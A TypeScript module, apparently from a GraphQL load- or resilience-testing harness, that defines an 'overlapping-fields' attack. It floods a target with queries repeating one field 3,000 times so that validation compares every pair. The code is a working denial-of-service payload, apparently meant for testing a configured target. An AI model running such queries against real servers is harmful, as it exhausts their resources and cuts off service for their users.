import type { Attack } from '../attack.ts';
import { openHttpClient } from '../clients/http.ts';
import { keepAttacking } from '../keepAttacking.ts';

const repeats = 3_000;

/** Documents that repeat a field with a selection, so that validation compares every pair. */
export const overlappingFields: Attack = {
  name: 'overlapping-fields',
  family: 'documents',
  bounds: [6, 7],
  summary: '16 documents at a time with one field 3,000 times',
  run: async (context) => {
    const client = openHttpClient(context, 16, context.target.tenant.keys.viewer);
    await keepAttacking(context, 16, (turn) => {
      const selections = 'plugins { pageInfo { hasNextPage } } '.repeat(repeats / 10);
      const repeated = `${'node(id: "a") { id } '.repeat(9)}${selections}`;
      return client.operation(`query Q${turn} { ${repeated} ${'viewer { role } '.repeat(repeats)} }`);
    });
  },
};
